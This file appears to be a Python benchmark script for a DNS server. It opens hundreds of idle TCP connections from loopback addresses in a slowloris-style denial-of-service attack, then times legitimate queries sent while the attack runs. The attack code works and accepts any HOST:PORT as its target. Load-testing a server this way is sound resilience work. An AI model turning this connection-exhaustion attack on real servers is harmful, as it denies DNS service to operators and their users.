#!/usr/bin/env python3
"""TCP slowloris against a DNS server, and the latency of a legitimate TCP query meanwhile.

Opens ATTACK idle TCP connections to the server (from SOURCES loopback addresses
127.0.1.1..), optionally reopening each one as soon as the server closes it, then asks
QUERIES legitimate queries, each on a fresh TCP connection from 127.0.0.2, one after another,
and prints the latency percentiles and failures. Used by bench/pdns-slowloris.sh.

  pdns_slowloris.py HOST:PORT NAME [--attack 500] [--sources 1] [--reconnect] [--queries 50]
"""
import argparse
import asyncio
import random
import socket
import struct
import sys
import time


def query(name: str) -> bytes:
    qid = random.randrange(1 << 16)
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    return struct.pack(">H", len(q)) + q


async def connect_from(src: str, host: str, port: int):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.bind((src, 0))
    loop = asyncio.get_running_loop()
    await loop.sock_connect(s, (host, port))
    return await asyncio.open_connection(sock=s)


class Attack:
    def __init__(self):
        self.open = 0
        self.opened = 0
        self.closed_by_server = 0
        self.stop = False


async def attacker(src, host, port, reconnect, st: Attack):
    while not st.stop:
        try:
            r, w = await connect_from(src, host, port)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        st.open += 1
        st.opened += 1
        try:
            # Never sends a byte; returns when the server closes.
            await r.read(1)
            st.closed_by_server += 1
        except OSError:
            st.closed_by_server += 1
        finally:
            st.open -= 1
            w.close()
        if not reconnect:
            # Opened once: stays closed.
            return


async def legit(host, port, name, timeout):
    t0 = time.monotonic()
    try:
        r, w = await asyncio.wait_for(connect_from("127.0.0.2", host, port), timeout)
        w.write(query(name))
        await w.drain()
        hdr = await asyncio.wait_for(r.readexactly(2), timeout)
        body = await asyncio.wait_for(r.readexactly(struct.unpack(">H", hdr)[0]), timeout)
        w.close()
        rcode = body[3] & 0x0F
        return time.monotonic() - t0, rcode
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError) as e:
        return time.monotonic() - t0, f"failed ({type(e).__name__})"


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("server")
    ap.add_argument("name")
    ap.add_argument("--attack", type=int, default=500)
    ap.add_argument("--sources", type=int, default=1)
    ap.add_argument("--reconnect", action="store_true")
    ap.add_argument("--queries", type=int, default=50)
    ap.add_argument("--timeout", type=float, default=15.0)
    a = ap.parse_args()
    host, port = a.server.rsplit(":", 1)
    port = int(port)
    st = Attack()
    tasks = [
        asyncio.create_task(
            attacker(f"127.0.1.{1 + i % a.sources}", host, port, a.reconnect, st)
        )
        for i in range(a.attack)
    ]
    # Let the attack take hold.
    t0 = time.monotonic()
    while st.opened < a.attack and time.monotonic() - t0 < 10:
        await asyncio.sleep(0.05)
    await asyncio.sleep(0.5)
    lat, fails, rcodes = [], [], {}
    for _ in range(a.queries):
        dt, rc = await legit(host, port, a.name, a.timeout)
        if isinstance(rc, int):
            lat.append(dt)
            rcodes[rc] = rcodes.get(rc, 0) + 1
        else:
            fails.append(rc)
    st.stop = True
    for t in tasks:
        t.cancel()
    lat.sort()

    def pct(p):
        return lat[min(len(lat) - 1, int(p * len(lat)))] * 1000 if lat else float("nan")

    mode = "reconnecting" if a.reconnect else "opened once"
    print(
        f"attack: {a.attack} idle connections from {a.sources} address(es), {mode}; "
        f"attacker connections opened {st.opened}, closed by the server {st.closed_by_server}"
    )
    print(
        f"legit TCP queries: {len(lat)}/{a.queries} answered (rcodes {rcodes}), "
        f"failed {len(fails)}; latency ms p50 {pct(0.5):.1f} p95 {pct(0.95):.1f} "
        f"max {(lat[-1] * 1000 if lat else float('nan')):.1f}"
    )
    if fails:
        print("failures:", ", ".join(sorted(set(fails))))
    sys.stdout.flush()


if __name__ == "__main__":
    asyncio.run(main())
